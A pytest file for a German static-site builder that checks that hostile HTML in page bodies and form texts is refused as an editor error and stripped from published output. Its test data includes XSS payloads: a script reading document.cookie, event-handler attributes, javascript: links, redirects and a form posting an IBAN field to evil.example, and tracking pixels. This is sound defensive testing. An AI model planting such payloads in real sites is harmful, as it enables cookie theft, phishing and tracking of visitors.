"""Hostile and careless HTML in bodies and form texts: an editor error, never published.

Every hostile case lives in a document of its own in one site, so that one
``check`` and one ``build`` (in fresh processes, as an editor runs them) show
every case; each test then looks for its own error, with its file and line.
"""

from __future__ import annotations

import re
import shutil
import pytest

from conftest import MINIMAL, BuildResult, Site, run_portal
from pictures import plain
from portal_content.sanitise import clean, sanitise

#: case → (the line written into a body, what the error says about it)
HOSTILE = {
    "script": ("<script>alert(document.cookie)</script>", "body: <script> is not allowed in content"),
    "img-onerror": ('<img src="/theme/favicon.svg" alt="" onerror="alert(1)">',
                    'body: the attribute onerror="alert(1)" on <img> is not allowed in content'),
    "iframe": ('<iframe src="/de/"></iframe>', "body: <iframe> is not allowed in content"),
    "object": ('<object data="/materials/wortliste.txt"></object>', "body: <object> is not allowed in content"),
    "base": ('<base href="https://evil.example/">', "body: <base> is not allowed in content"),
    "meta-refresh": ('<meta http-equiv="refresh" content="0; url=https://evil.example/">',
                     "body: <meta> is not allowed in content"),
    "form": ('<form action="https://evil.example/collect"><input name="iban"></form>',
             "body: <form> is not allowed in content"),
    "button-formaction": ('<button formaction="https://evil.example/">Weiter</button>',
                          "body: <button> is not allowed in content"),
    "style": ('<p style="position: fixed; inset: 0">Gewinnspiel!</p>',
              'body: the attribute style="position: fixed; inset: 0" on <p> is not allowed in content'),
    "attr-list-onclick": ('Klicken Sie hier.\n{: onclick="alert(1)" }',
                          'body: the attribute onclick="alert(1)" on <p> is not allowed in content'),
    "javascript-link": ('<a href="javascript:alert(1)">Mehr</a>',
                        "body: the link 'javascript:alert(1)' uses 'javascript:'"),
    "offsite-image": ("![Logo](https://tracker.example/logo.png)",
                      'body: <img src="https://tracker.example/logo.png"> loads from another host'),
    "protocol-relative-image": ('<img src="//tracker.example/pixel.gif" alt="">',
                                'body: <img src="//tracker.example/pixel.gif"> loads from another host'),
}
#: Lines above the hostile one: front matter (3), then a paragraph and a blank line.
HOSTILE_LINE = 6


def hostile_document(case: str) -> str:
    return f"---\ntitle: Fall {case}\n---\nEin harmloser Absatz.\n\n{HOSTILE[case][0]}\n\nNoch ein Absatz.\n"


HELP_TEXT = """title: {de: Mitmachen}
fields:
  - name: email
    type: email
    label: {de: E-Mail}
    required: true
    help: {de: "Wir schreiben Ihnen <b>nur einmal</b>."}
consent: {text: {de: Ich willige ein.}, privacy_page: datenschutz}
success_page: danke
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, BuildResult]:
    """The minimal site with every hostile case: ``check`` twice (the second from the cache), ``build``."""
    root = tmp_path_factory.mktemp("hostile") / "site"
    shutil.copytree(MINIMAL, root, ignore=shutil.ignore_patterns("output", ".cache"))
    site = Site(root)
    for case in HOSTILE:
        site.write(f"content/pages/fall-{case}.de.md", hostile_document(case))
    site.write("content/pages/fall-mehrere.de.md", (
        "---\ntitle: Mehreres\nfarbe: rot\n---\n<script src=\"/materials/wortliste.txt\"></script>\n\n"
        "Text.\n\n<iframe src=\"/de/\"></iframe>\n"))
    site.write("data/forms/mitmachen.yaml", HELP_TEXT)
    first = site.check()
    assert list((root / ".cache").glob("portal_documents-*"))  # the next runs read the documents from it
    return {"check": first, "check again": site.check(), "build": site.build()}


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_html_in_a_body_is_an_editor_error_from_check_and_build(hostile, case: str):
    expected = f"content/pages/fall-{case}.de.md:{HOSTILE_LINE}: {HOSTILE[case][1]}"
    if case == "attr-list-onclick":  # attr_list's braces stand on the line below the paragraph
        expected = expected.replace(f":{HOSTILE_LINE}:", f":{HOSTILE_LINE + 1}:")
    for run in ("check", "check again", "build"):
        assert hostile[run].returncode == 1
        assert expected in hostile[run].stderr, (run, hostile[run].stderr)
        assert "Traceback" not in hostile[run].stderr
    assert not hostile["build"].output.exists()  # nothing was written


def test_each_finding_is_listed_once_with_the_documents_other_errors(hostile):
    stderr = hostile["check"].stderr
    mine = [line for line in stderr.splitlines() if line.startswith("content/pages/fall-mehrere.de.md")]
    assert len(mine) == 3, mine
    assert mine[0].startswith("content/pages/fall-mehrere.de.md:3: farbe:")
    assert mine[1].startswith("content/pages/fall-mehrere.de.md:5: body: <script> is not allowed")
    assert mine[2].startswith("content/pages/fall-mehrere.de.md:9: body: <iframe> is not allowed")
    javascript = [line for line in stderr.splitlines() if "fall-javascript-link" in line]
    assert len(javascript) == 1, javascript  # the link check and the allowlist say it once
    count = int(re.search(r"^(\d+) errors found", stderr, re.MULTILINE)[1])
    assert count == len([line for line in stderr.splitlines() if line.startswith(("content/", "data/"))])


def test_html_in_a_form_text_is_an_editor_error(hostile):
    expected = ("data/forms/mitmachen.yaml:7: fields[0].help.de: <b> is HTML, and form texts are plain "
                "text: readers would see it as written")
    assert expected in hostile["check"].stderr
    assert expected in hostile["build"].stderr


def test_published_html_passes_the_same_allowlist():
    """Defence in depth: what the check would refuse is also removed from what is published."""
    hostile = ('<p onclick="x()">a<script>alert(1)</script><img src="https://t.example/p.gif" alt="p">'
               '<a href="&#1;javascript:alert(1)">b</a><iframe src="/"></iframe>'
               '<a href="https://example.org" rel="noopener">c</a></p>')
    assert clean(hostile) == '<p>a<img alt="p"><a>b</a><a href="https://example.org" rel="noopener">c</a></p>'


def test_markup_two_parsers_read_differently_is_an_error_not_a_different_page():
    published, found = sanitise('<p>a</p><td>stray cell</td>')
    assert "<td" not in published
    assert [f.message for f in found] == [
        "the HTML around <td> is malformed (an unclosed quote or tag?): it would not be published as written"]


ALLOWED = """---
title: Alles, was erlaubt ist
---
Ein Satz mit Fußnote[^quelle] und der Abkürzung WHO, `Code` und **fett**.

| Tag | Zeit |
|:----|-----:|
| Montag | 16:00 |

Begriff
:   Erklärung

```python
print("hallo")
```

## Ein Abschnitt {: #abschnitt lang=en }

<details><summary>Mehr lesen</summary>
Versteckter Text.
</details>

<figure><img src="{static}/materials/bild.png" alt="Ein Bild" width="20" height="10"><figcaption>Bild</figcaption></figure>

[Über uns]({filename}/pages/ueber-uns.de.md), [Liste]({static}/materials/wortliste.txt),
[Verein](https://verein.example/), <kbd>Strg</kbd>, H<sub>2</sub>O, <a href="mailto:post@example.org">E-Mail</a>.

*[WHO]: Weltgesundheitsorganisation

[^quelle]: Eine Quelle.
"""

SITE_ADMIN = """
admin:
  enabled: true
  backend: {name: gitlab, repo: agentur/beispielheim, auth_type: pkce, app_id: abc}
forms: {backend: generic, endpoint: "https://forms.example.org/f/beispielheim"}
"""


@pytest.fixture(scope="module")
def allowed_build(tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
    """The minimal site with a page of allowed Markdown, the CMS and a form endpoint: one build."""
    root = tmp_path_factory.mktemp("allowed") / "site"
    shutil.copytree(MINIMAL, root, ignore=shutil.ignore_patterns("output", ".cache"))
    site = Site(root)
    site.write("content/pages/erlaubt.de.md", ALLOWED)
    site.write("content/materials/bild.png", plain("PNG", (20, 10)))  # a real picture: it is re-encoded
    site.write("data/site.yaml", site.read("data/site.yaml") + SITE_ADMIN)
    result = run_portal("build", root)
    assert result.returncode == 0, result.stderr
    return result


def test_allowed_markdown_builds_and_reads_as_written(allowed_build: BuildResult):
    page = allowed_build.page("de/erlaubt/")
    body = page[page.index('<div class="detail__body prose">'):]
    for expected in (
        '<sup id="fnref:quelle"><a class="footnote-ref" href="#fn:quelle">1</a></sup>',
        '<abbr title="Weltgesundheitsorganisation">WHO</abbr>', "<code>Code</code>", "<strong>fett</strong>",
        '<th class="align-left">Tag</th>', '<td class="align-right">16:00</td>',
        "<dt>Begriff</dt>", "<dd>Erklärung</dd>", '<code class="language-python">print("hallo")',
        '<h2 id="abschnitt" lang="en">Ein Abschnitt</h2>', "<details><summary>Mehr lesen</summary>",
        '<img src="/materials/bild.png" alt="Ein Bild" width="20" height="10">', "<figcaption>Bild</figcaption>",
        '<a href="/de/ueber-uns/">Über uns</a>', '<a href="/materials/wortliste.txt">Liste</a>',
        '<a href="https://verein.example/" rel="noopener">Verein</a>', "<kbd>Strg</kbd>", "H<sub>2</sub>O",
        '<a href="mailto:post@example.org">E-Mail</a>', '<li id="fn:quelle">',
    ):
        assert expected in body, expected
    assert "style=" not in body and "{static}" not in body and "{filename}" not in body
